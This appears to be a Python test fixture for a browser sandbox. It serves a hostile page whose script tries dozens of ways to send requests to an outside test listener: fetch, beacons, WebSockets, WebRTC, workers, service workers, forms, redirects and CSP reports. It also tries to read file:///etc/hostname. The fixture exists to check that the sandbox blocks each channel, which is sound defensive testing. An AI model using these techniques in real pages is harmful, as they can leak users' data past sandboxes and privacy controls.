"""A site that tries every way out that it can think of, and the names of those ways."""

from __future__ import annotations

from replay.sandbox.sites import Hit, Reply
from tests.browser.outside import Outside

IN_PAGE = """
const out = 'http://@TCP@/', socket = 'ws://@TCP@/';
const make = (tag, attributes, parent = document.body) => {
  const element = document.createElement(tag);
  for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
  parent.append(element);
  return element;
};
const tries = {
  fetch: () => { fetch(out + 'fetch', {mode: 'no-cors'}).catch(() => {}) },
  put: () => { fetch(out + 'put', {method: 'PUT', body: 'x'}).catch(() => {}) },
  keepalive: () => { fetch(out + 'keepalive', {mode: 'no-cors', keepalive: true, method: 'POST'})
    .catch(() => {}) },
  xhr: () => { const x = new XMLHttpRequest(); x.open('GET', out + 'xhr'); x.send() },
  image: () => { new Image().src = out + 'image' },
  beacon: () => { navigator.sendBeacon(out + 'beacon', 'x') },
  ping: () => {
    const a = make('a', {href: '#', ping: out + 'ping'}); a.textContent = 'x'; a.click() },
  eventsource: () => { new EventSource(out + 'eventsource') },
  websocket: () => { new WebSocket(socket + 'websocket') },
  iframe: () => { make('iframe', {src: out + 'iframe'}) },
  srcdoc: () => { make('iframe', {srcdoc: `<img src="${out}srcdoc">`}) },
  object: () => { make('object', {data: out + 'object', type: 'text/html'}) },
  embed: () => { make('embed', {src: out + 'embed', type: 'text/html'}) },
  script: () => { make('script', {src: out + 'script'}) },
  module: () => { import(out + 'module').catch(() => {}) },
  stylesheet: () => { make('link', {rel: 'stylesheet', href: out + 'stylesheet'}) },
  css_import: () => { make('style', {}).textContent = `@import url(${out}css_import);` },
  css_image: () => { make('div', {style: `background: url(${out}css_image); height: 9px`}) },
  font: () => {
    make('style', {}).textContent = `@font-face {font-family: f; src: url(${out}font)}`;
    make('p', {style: 'font-family: f'}).textContent = 'x' },
  video: () => { make('video', {src: out + 'video', preload: 'auto'}) },
  audio: () => { make('audio', {src: out + 'audio', preload: 'auto'}) },
  prefetch: () => { make('link', {rel: 'prefetch', href: out + 'prefetch'}) },
  preload: () => { make('link', {rel: 'preload', as: 'image', href: out + 'preload'}) },
  modulepreload: () => { make('link', {rel: 'modulepreload', href: out + 'modulepreload'}) },
  preconnect: () => { make('link', {rel: 'preconnect', href: 'http://@SPARE@/'}) },
  dns_prefetch: () => { make('link', {rel: 'dns-prefetch', href: '//outside.example'}) },
  icon: () => { make('link', {rel: 'icon', href: out + 'icon'}) },
  manifest: () => { make('link', {rel: 'manifest', href: out + 'manifest'}) },
  speculation: () => {
    const rules = make('script', {type: 'speculationrules'}, document.head);
    rules.textContent = JSON.stringify(
      {prefetch: [{source: 'list', urls: [out + 'speculation'], eagerness: 'immediate'}]}) },
  popup: () => { window.open(out + 'popup') },
  popup_noopener: () => { window.open(out + 'popup_noopener', '_blank', 'noopener') },
  popup_written: () => { window.open('', '_blank').document.write(
    `<img src="${out}popup_written">`) },
  form_blank: () => {
    make('form', {method: 'post', action: out + 'form_blank', target: '_blank'}).submit() },
  form_frame: () => {
    make('iframe', {name: 'inner'});
    make('form', {method: 'post', action: out + 'form_frame', target: 'inner'}).submit() },
  worker: () => { new Worker(blob(`
    fetch('${out}worker_fetch', {mode: 'no-cors'}).catch(() => {});
    new WebSocket('${socket}worker_socket');
    try { importScripts('${out}worker_import') } catch {}
    try { new WebTransport('https://@UDP@/') } catch {}`)) },
  shared_worker: () => { new SharedWorker(blob(
    `fetch('${out}shared_worker', {mode: 'no-cors'}).catch(() => {})`)) },
  service_worker: () => { navigator.serviceWorker.register('/sw.js').catch(() => {}) },
  stun: () => { peer({iceServers: [{urls: 'stun:@UDP@'}]}) },
  turn: () => { peer({iceServers: [
    {urls: 'turn:@TCP@?transport=tcp', username: 'u', credential: 'c'},
    {urls: ['turn:@UDP@?transport=udp'], username: 'u', credential: 'c'}]}) },
  candidate: async () => {
    const one = await peer({}), two = new RTCPeerConnection();
    await two.setRemoteDescription(one.localDescription);
    await two.setLocalDescription(await two.createAnswer());
    await one.setRemoteDescription(two.localDescription);
    const [host, port] = '@UDP@'.split(':');
    await one.addIceCandidate({sdpMid: '0',
      candidate: `candidate:1 1 udp 2113937151 ${host} ${port} typ host`}) },
  webtransport: () => { new WebTransport('https://@UDP@/').ready.catch(() => {}) },
  file_frame: () => { make('iframe', {src: 'file:///etc/hostname'}) },
  file_fetch: () => { fetch('file:///etc/hostname').catch(() => {}) },
};
const blob = text => URL.createObjectURL(new Blob([text], {type: 'text/javascript'}));
const peer = async config => {
  const made = new RTCPeerConnection(config);
  made.createDataChannel('x');
  await made.setLocalDescription(await made.createOffer());
  return made;
};
window.addEventListener('unhandledrejection', event => event.preventDefault());
for (const attempt of Object.values(tries)) try { attempt() } catch {}
"""

NAVIGATING = {
    "form": "<form method=post action='http://@TCP@/form'></form><script>document.forms[0].submit()</script>",
    "location": "<script>location = 'http://@TCP@/location'</script>",
    "refresh": "<meta http-equiv=refresh content='0; url=http://@TCP@/refresh'>",
    "download": "<a download href='http://@TCP@/download'>x</a><script>document.links[0].click()</script>",
    "unload": "<script>addEventListener('pagehide', () => navigator.sendBeacon('http://@TCP@/unload'));"
    "location = '/empty'</script>",
}
"""Ways out that need the whole page, by the path of the page that tries them."""

WAYS = {
    "fetch", "put", "keepalive", "xhr", "image", "beacon", "ping", "eventsource", "websocket",
    "iframe", "srcdoc", "object", "embed", "script", "module", "stylesheet", "css_import",
    "css_image", "font", "video", "audio", "prefetch", "preload", "modulepreload",
    "speculation", "popup", "popup_noopener", "popup_written", "form_blank", "form_frame",
    "worker_fetch", "worker_socket", "worker_import", "shared_worker", "service_worker",
    "report", "form", "location", "refresh", "download", "unload", "redirect",
    "stun", "turn", "quic",
}  # fmt: skip
"""Every way out, as the outside calls it where nothing stops it."""

UNREPORTED = {"speculation", "service_worker", "popup_written"}
"""Stopped before the harness could see them try: the first two are switched off in the browser. The
requests of an empty popup that its opener writes into are held back for ever, because Playwright
waits for the news of them in the wrong page."""

UNNAMED = {"stun": "webrtc", "turn": "webrtc", "quic": "webtransport", "worker_socket": "proxy"}
"""Attempts whose address has no path, and the kind they are reported as."""

_SERVICE_WORKER = "fetch('http://@TCP@/service_worker', {mode: 'no-cors'}).catch(() => {})"
_REPORTING = {
    "Content-Security-Policy-Report-Only": "object-src 'none'; report-uri http://@TCP@/report"
}


class HostileSite:
    """Answers every path with a page that tries to leave; ``/`` tries most ways at once."""

    paths = ("/", *(f"/{name}" for name in NAVIGATING), "/redirect")

    def __init__(self, outside: Outside) -> None:
        self._outside = outside

    def answer(self, hit: Hit) -> Reply:
        """The page at the path that was asked for."""
        name = hit.path.strip("/")
        if name == "sw.js":
            script = {"Content-Type": "text/javascript"}
            return Reply(body=self._aimed(_SERVICE_WORKER), headers=script)
        if name == "redirect":
            location = self._aimed("http://@TCP@/redirect")
            return Reply(body="", status=302, headers={"Location": location})
        if name == "empty":
            return Reply(body="")
        if name in NAVIGATING:
            return Reply(body=self._aimed(f"<!doctype html>{NAVIGATING[name]}"))
        headers = {key: self._aimed(value) for key, value in _REPORTING.items()}
        page = f"<!doctype html><body><script>{IN_PAGE}</script>"
        return Reply(body=self._aimed(page), headers=headers)

    def _aimed(self, text: str) -> str:
        for place in ("tcp", "udp", "spare"):
            text = text.replace(f"@{place.upper()}@", getattr(self._outside, place))
        return text
